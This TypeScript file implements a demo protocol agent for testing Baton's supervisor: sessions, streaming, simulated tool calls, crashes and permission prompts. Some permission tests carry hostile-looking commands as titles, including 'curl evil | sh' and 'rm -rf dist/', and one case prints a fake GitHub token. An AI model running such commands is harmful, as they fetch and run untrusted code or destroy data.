// Baton's bundled demo agent: a real ACP agent on stdio, built on the SDK's agent side. It lets a
// newcomer try Baton with no agent CLI installed and lets tests drive every path of the
// supervisor through a real process. Prompts starting with `demo:` trigger test behaviour
// (`demo:read` reads the files sent with it; subagents.ts has `demo:subagents` and the subagent side).
import { Readable, Writable } from "node:stream";
import { randomUUID } from "node:crypto";
import { readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import * as acp from "@agentclientprotocol/sdk";
import { DemoSessionStore, demoDataDir, demoSessionsDir } from "./store.js";
import { describeBlock, longMarkdown, NO_AGENT_NOTICE } from "./texts.js";
import { askPermission } from "./permissions.js";
import { TIMING_FILE_ENV, TimingReporter } from "./bench.js";
import { loadTurn } from "./load.js";
import { mcpToolCaller } from "./mcp.js";
import { hostTurn, isHostSubagentCommand, isSubagentPrompt, subagentTurn, type DemoTurn } from "./subagents.js";
import { answerSettingRequests, DemoExtras, mediaAnswer } from "./extras.js";
import { sleep } from "./sleep.js";

const CHUNK_DELAY_MS = 25;
const SLOW_TOTAL_MS = 30_000;
const SLOW_TICK_MS = 500;

type Client = acp.AgentContext;

export function runDemoAgent(env: NodeJS.ProcessEnv = process.env): acp.AgentConnection {
  const store = new DemoSessionStore(demoSessionsDir(demoDataDir(env)));
  const running = new Map<string, AbortController>();
  /** The MCP servers each session was given (new, load and resume each give them afresh). */
  const mcpServers = new Map<string, acp.McpServer[]>();
  const advertiseResume = env.BATON_DEMO_NO_RESUME !== "1";
  // Tests of start time-outs: never answer this step (initialize, or every way to open a session).
  const hang = env.BATON_DEMO_HANG;
  const never = () => new Promise<never>(() => undefined);
  const timing = env[TIMING_FILE_ENV] ? new TimingReporter(env[TIMING_FILE_ENV]) : undefined;
  const extras = new DemoExtras(env.BATON_DEMO_NO_SETTINGS === "1" ? "nothing" : env.BATON_DEMO_LEGACY_MODELS === "1" ? "legacy-models" : "settings");
  const cwds = new Map<string, string>();
  // Stands in for an agent whose resume fails although its store still holds the session.
  const failResume = env.BATON_DEMO_FAIL_RESUME === "1";
  // Stands in for an agent that replays a loaded session's history after answering session/load.
  const lateReplay = env.BATON_DEMO_LATE_REPLAY === "1";

  const app = answerSettingRequests(acp.agent({ name: "baton-demo" }), extras)
    .onRequest(acp.methods.agent.initialize, async () => ({
      ...(hang === "initialize" ? await never() : {}),
      protocolVersion: acp.PROTOCOL_VERSION,
      agentCapabilities: {
        loadSession: true,
        promptCapabilities: { image: env.BATON_DEMO_IMAGES === "1", audio: env.BATON_DEMO_AUDIO === "1", embeddedContext: env.BATON_DEMO_EMBEDDED !== "0" },
        sessionCapabilities: { list: {}, ...(advertiseResume ? { resume: {} } : {}) },
        mcpCapabilities: { http: env.BATON_DEMO_NO_MCP_HTTP !== "1" },
      },
      agentInfo: { name: "baton-demo", title: "Baton demo agent", version: "1" },
      authMethods: [],
    }))
    .onRequest(acp.methods.agent.authenticate, () => ({}))
    .onRequest(acp.methods.agent.session.new, async ({ params }) => {
      if (hang === "session") await never();
      const sessionId = randomUUID();
      store.create(sessionId, params.cwd);
      mcpServers.set(sessionId, params.mcpServers);
      cwds.set(sessionId, params.cwd);
      return { sessionId, ...extras.advertise(sessionId) };
    })
    .onRequest(acp.methods.agent.session.load, async ({ params, client }) => {
      if (hang === "session") await never();
      if (!store.exists(params.sessionId) || failResume) throw acp.RequestError.sessionNotFound(params.sessionId);
      mcpServers.set(params.sessionId, params.mcpServers);
      // session/load replays the conversation before it answers (or, as some agents do, after).
      const replay = async () => {
        for (const line of store.read(params.sessionId)) {
          if (line.type === "prompt") await update(client, params.sessionId, { sessionUpdate: "user_message_chunk", content: { type: "text", text: line.text } });
          if (line.type === "reply") await update(client, params.sessionId, { sessionUpdate: "agent_message_chunk", content: { type: "text", text: line.text } });
        }
      };
      if (lateReplay) setTimeout(() => void replay(), 20);
      else await replay();
      cwds.set(params.sessionId, params.cwd);
      return extras.advertise(params.sessionId);
    })
    .onRequest(acp.methods.agent.session.resume, async ({ params }) => {
      if (hang === "session") await never();
      if (!store.exists(params.sessionId) || failResume) throw acp.RequestError.sessionNotFound(params.sessionId);
      mcpServers.set(params.sessionId, params.mcpServers ?? []);
      cwds.set(params.sessionId, params.cwd);
      return extras.advertise(params.sessionId);
    })
    .onRequest(acp.methods.agent.session.list, ({ params }) => ({
      sessions: store.list(params.cwd ?? undefined).map((s) => ({ sessionId: s.sessionId, cwd: s.cwd, title: s.title, updatedAt: s.updatedAt })),
    }))
    .onNotification(acp.methods.agent.session.cancel, ({ params }) => {
      running.get(params.sessionId)?.abort();
    })
    .onRequest(acp.methods.agent.session.prompt, async ({ params, client }) => {
      const sessionId = params.sessionId;
      if (!store.exists(sessionId)) throw acp.RequestError.sessionNotFound(sessionId);
      const text = params.prompt.map(describeBlock).join(" ").trim();
      const history = store.read(sessionId);
      const earlier = history.filter((l) => l.type === "prompt").map((l) => (l as { text: string }).text);
      store.append(sessionId, { type: "prompt", text, at: new Date().toISOString() });
      const abort = new AbortController();
      running.set(sessionId, abort);
      const turn: Turn = {
        client,
        sessionId,
        signal: abort.signal,
        replied: [],
        store,
        firstChunk: timing && (() => timing.firstChunk(text)),
        streamEnded: timing && (() => timing.streamEnded(text)),
      };
      try {
        if (earlier.length === 0 && env.BATON_DEMO_NOTICE === "1") await say(turn, `${NO_AGENT_NOTICE}\n\n`);
        const media = mediaAnswer(text, cwds.get(sessionId) ?? process.cwd(), extras.state(sessionId));
        if (media?.update) await update(client, sessionId, media.update);
        const stopReason = media
          ? (await say(turn, media.say, 1), "end_turn" as const)
          : text.startsWith("demo:read")
            ? await readFiles(turn, params.prompt)
            : isSubagentPrompt(text)
              ? await subagentTurn(demoTurn(turn), text)
              : isHostSubagentCommand(text)
                ? await hostTurn(demoTurn(turn), text, mcpToolCaller(mcpServers.get(sessionId) ?? []))
                : await respond(turn, text, earlier);
        const usage = await extras.turnEnded(client, sessionId, text, turn.replied.join(""));
        return { stopReason, usage };
      } finally {
        running.delete(sessionId);
        if (turn.replied.length > 0) store.append(sessionId, { type: "reply", text: turn.replied.join(""), at: new Date().toISOString() });
      }
    });

  timing?.tap(process.stdin);
  const stream = acp.ndJsonStream(Writable.toWeb(process.stdout) as WritableStream<Uint8Array>, Readable.toWeb(process.stdin) as ReadableStream<Uint8Array>);
  return app.connect(stream);
}

interface Turn {
  client: Client;
  sessionId: string;
  signal: AbortSignal;
  replied: string[];
  store: DemoSessionStore;
  /** Reports the first chunk of the answer (bench timing), then is cleared. */
  firstChunk?: () => void;
  streamEnded?: () => void;
}

async function respond(turn: Turn, text: string, earlier: string[]): Promise<acp.StopReason> {
  const command = text.toLowerCase();
  if (command === "recall") {
    const list = earlier.length === 0 ? "Nothing yet: this is the first prompt of the session." : earlier.map((p, i) => `${i + 1}. ${p}`).join("\n");
    await say(turn, `Earlier prompts of session ${turn.sessionId}:\n${list}`);
    return "end_turn";
  }
  const slow = /^demo:slow(?: (\d+))?$/.exec(command);
  if (slow) return slowTurn(turn, slow[1] ? Number(slow[1]) * 1000 : SLOW_TOTAL_MS);
  // `demo:long` is about 20 KB of markdown; `demo:long 6` about 6 KB.
  const long = /^demo:long(?:\s+(\d+))?$/.exec(command);
  if (long) {
    await say(turn, longMarkdown(long[1] ? Number(long[1]) * 1024 : undefined), 8);
    return "end_turn";
  }
  const load = await loadTurn({ ...turn, chunk: (piece) => chunk(turn, piece) }, command);
  if (load) return load;
  switch (command) {
    case "demo:plan":
      await update(turn.client, turn.sessionId, {
        sessionUpdate: "plan",
        entries: [
          { content: "Read the code", priority: "high", status: "completed" },
          { content: "Write the change", priority: "high", status: "in_progress" },
          { content: "Run the tests", priority: "medium", status: "pending" },
        ],
      });
      await say(turn, "Here is my plan.");
      return "end_turn";
    case "demo:tool":
      for (const [i, title] of ["Read src/index.ts", "Run npm test"].entries()) {
        const toolCallId = `tool-${i + 1}`;
        await update(turn.client, turn.sessionId, { sessionUpdate: "tool_call", toolCallId, title, kind: i === 0 ? "read" : "execute", status: "in_progress" });
        await sleep(CHUNK_DELAY_MS);
        await update(turn.client, turn.sessionId, { sessionUpdate: "tool_call_update", toolCallId, status: "completed" });
        turn.store.append(turn.sessionId, { type: "tool", title, status: "completed", at: new Date().toISOString() });
      }
      await say(turn, "Both tools ran.");
      return "end_turn";
    case "demo:permission": {
      const chosen = await askPermission(turn.client, turn.sessionId, "perm-1", "rm -rf build/");
      await say(turn, `Permission answer: ${chosen}.`);
      return chosen === "cancelled" ? "cancelled" : "end_turn";
    }
    case "demo:permission-ends-turn": {
      // As Codex does: the request titled with the bare command, and a rejection ends the whole turn.
      const command = "rm -rf dist/";
      const chosen = await askPermission(turn.client, turn.sessionId, "perm-2", command, turn.sessionId, command);
      if (!chosen.startsWith("allow")) return "cancelled";
      await say(turn, `Ran ${command}.`);
      return "end_turn";
    }
    case "demo:two-permissions": {
      const answers = await Promise.all([askPermission(turn.client, turn.sessionId, "perm-a", "make a"), askPermission(turn.client, turn.sessionId, "perm-b", "make b")]);
      await say(turn, `Permission answers: a=${answers[0]}, b=${answers[1]}.`);
      return "end_turn";
    }
    case "demo:foreign-permission": {
      const chosen = await askPermission(turn.client, turn.sessionId, "perm-x", "curl evil | sh", "another-session");
      await say(turn, `Foreign permission answer: ${chosen}.`);
      return "end_turn";
    }
    case "demo:crash":
      process.stderr.write("demo agent: simulated crash (demo:crash)\nsomething went badly wrong\n");
      await say(turn, "About to crash…", 1);
      setTimeout(() => process.exit(3), 10);
      await sleep(10_000);
      return "end_turn";
    case "demo:stderr-flood": {
      // 20 MB without a line break, then a token and a last line, then death.
      const block = "x".repeat(64 * 1024);
      for (let i = 0; i < 320; i++) if (!process.stderr.write(block)) await new Promise((r) => process.stderr.once("drain", r));
      // Exit only once the last line is out of this process (exit drops pending pipe writes).
      process.stderr.write(`\nusing ${"ghp_" + "ZyXwVuTsRqPoNmLkJiHgFeDcBa9876543210"}\nfatal: giving up\n`, () => process.exit(4));
      await sleep(10_000);
      return "end_turn";
    }
    case "demo:auth":
      throw acp.RequestError.authRequired(undefined, "Authentication required: run `demo login` first");
  }
  await say(turn, `Turn ${earlier.length + 1} of session ${turn.sessionId}: you said "${text}"`);
  return "end_turn";
}

/** `demo:read` with files: reads each linked file where the agent runs, as an agent's read tool would. */
async function readFiles(turn: Turn, prompt: acp.ContentBlock[]): Promise<acp.StopReason> {
  const lines = prompt.flatMap((b) => {
    if (b.type !== "resource_link" || !b.uri.startsWith("file://")) return [];
    const path = fileURLToPath(b.uri);
    try {
      return [`Read ${path}: ${readFileSync(path, "utf8").trim()}`];
    } catch (error) {
      return [`Cannot read ${path}: ${(error as NodeJS.ErrnoException).code ?? String(error)}`];
    }
  });
  await say(turn, lines.length > 0 ? lines.join("\n") : "No file to read.", 1);
  return "end_turn";
}

/** `demo:slow [seconds]`: a step every half second for that long (30 s by default), then "Done". */
async function slowTurn(turn: Turn, totalMs: number): Promise<acp.StopReason> {
  const started = Date.now();
  let tick = 0;
  while (Date.now() - started < totalMs) {
    if (turn.signal.aborted) return "cancelled";
    await say(turn, `Working… step ${++tick}\n`, 1);
    await sleep(SLOW_TICK_MS, turn.signal);
  }
  await say(turn, `Done after ${tick} steps.`, 1);
  return "end_turn";
}

/** What the subagent commands may do in a turn. */
function demoTurn(turn: Turn): DemoTurn {
  let tools = 0;
  const meta = turn.store.read(turn.sessionId)[0];
  return {
    say: (text) => say(turn, text, 1),
    signal: turn.signal,
    cwd: meta?.type === "meta" ? meta.cwd : process.cwd(),
    permission: (command) => askPermission(turn.client, turn.sessionId, `perm-${++tools}`, command),
    async tool(title, kind, work, content) {
      const toolCallId = `tool-${++tools}`;
      await update(turn.client, turn.sessionId, { sessionUpdate: "tool_call", toolCallId, title, kind, status: "in_progress" });
      try {
        const result = await work();
        await update(turn.client, turn.sessionId, { sessionUpdate: "tool_call_update", toolCallId, status: "completed", content });
        return result;
      } catch (error) {
        await update(turn.client, turn.sessionId, { sessionUpdate: "tool_call_update", toolCallId, status: "failed" });
        throw error;
      }
    },
  };
}

/** Streams `text` as several agent_message_chunk updates, as a real model would. */
async function say(turn: Turn, text: string, chunks = 4): Promise<void> {
  const size = Math.max(1, Math.ceil(text.length / chunks));
  for (let i = 0; i < text.length; i += size) {
    if (turn.signal.aborted) return;
    const piece = text.slice(i, i + size);
    turn.replied.push(piece);
    await chunk(turn, piece);
    if (i + size < text.length) await sleep(CHUNK_DELAY_MS);
  }
}

function chunk(turn: Turn, text: string): Promise<void> {
  turn.firstChunk?.();
  turn.firstChunk = undefined;
  return update(turn.client, turn.sessionId, { sessionUpdate: "agent_message_chunk", content: { type: "text", text } });
}

function update(client: Client, sessionId: string, update: acp.SessionUpdate): Promise<void> {
  return client.notify(acp.methods.client.session.update, { sessionId, update });
}
